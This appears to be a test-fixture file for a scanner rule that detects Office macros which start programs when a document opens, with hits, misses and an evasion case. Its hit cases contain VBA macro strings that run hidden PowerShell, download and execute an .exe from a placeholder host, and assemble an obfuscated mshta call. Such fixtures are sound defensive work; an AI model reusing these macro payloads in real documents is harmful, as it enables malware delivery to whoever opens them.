import type { Examples } from "@doorward/core";
import { makeMacroPart, makeOfficeDocument, makeOldDocument } from "../example-documents.ts";
const shell = 'Sub AutoOpen()\r\n  Shell "powershell -w hidden -c iwr files.example", 0\r\nEnd Sub\r\n';
const explorer = 'Private Sub Workbook_Open()\r\n  Shell "explorer.exe C:\\Reports"\r\nEnd Sub\r\n';
const fetches =
  'Sub Document_Open()\r\n  URLDownloadToFileA 0, "http://files.example/a", Environ("TEMP") & "\\a.exe", 0, 0\r\n  Shell Environ("TEMP") & "\\a.exe"\r\nEnd Sub\r\n';
const pieces =
  'Sub Auto_Open()\r\n  x = "WScr" & "ipt.Sh" & "ell"\r\n  CreateObject(x).Run "m" & "shta h" & "ttp://files.example/a"\r\nEnd Sub\r\n';

/** Documents that start a program when they are opened, and documents that do so on a click or start nothing of note. */
export const examples: Examples = {
  hits: [
    {
      name: "a letter that starts a hidden command",
      delivered: true,
      files: { "letter.doc": makeOldDocument({ macros: { ThisDocument: shell } }) },
    },
    {
      name: "a letter that fetches a program and starts it",
      delivered: true,
      files: {
        "letter.docm": makeOfficeDocument("word/document.xml", {
          "word/vbaProject.bin": makeMacroPart({ ThisDocument: fetches }),
        }),
      },
    },
    {
      name: "a workbook that puts its command together from pieces",
      delivered: true,
      files: {
        "plan.xlsm": makeOfficeDocument("xl/workbook.xml", { "xl/vbaProject.bin": makeMacroPart({ Module1: pieces }) }),
      },
    },
  ],
  misses: [
    {
      name: "a workbook that opens a folder of reports",
      why: "The explorer shows a folder and runs nothing.",
      delivered: true,
      files: {
        "plan.xlsm": makeOfficeDocument("xl/workbook.xml", {
          "xl/vbaProject.bin": makeMacroPart({ ThisWorkbook: explorer }),
        }),
      },
    },
    {
      name: "a workbook with a button that starts a command",
      why: "It waits for a click, and says so on the button.",
      delivered: true,
      files: {
        "tools.xlsm": makeOfficeDocument("xl/workbook.xml", {
          "xl/vbaProject.bin": makeMacroPart({ Sheet1: 'Sub Run_Click()\r\n  Shell "cmd /c dir"\r\nEnd Sub\r\n' }),
        }),
      },
    },
    {
      name: "a macro that only speaks of commands in a remark",
      why: "A remark is not run.",
      delivered: true,
      files: {
        "plan.xlsm": makeOfficeDocument("xl/workbook.xml", {
          "xl/vbaProject.bin": makeMacroPart({
            ThisWorkbook: 'Sub Workbook_Open()\r\n  \' Shell "powershell" was here\r\nEnd Sub\r\n',
          }),
        }),
      },
    },
  ],
  evasions: [
    {
      name: "a macro that has another document start the program",
      caughtBy: "file/macro-runs-on-open",
      delivered: true,
      files: {
        "letter.doc": makeOldDocument({
          macros: {
            ThisDocument: 'Sub Document_Open()\r\n  Documents.Open ThisDocument.Path & "\\b.doc"\r\nEnd Sub\r\n',
          },
        }),
      },
    },
  ],
};
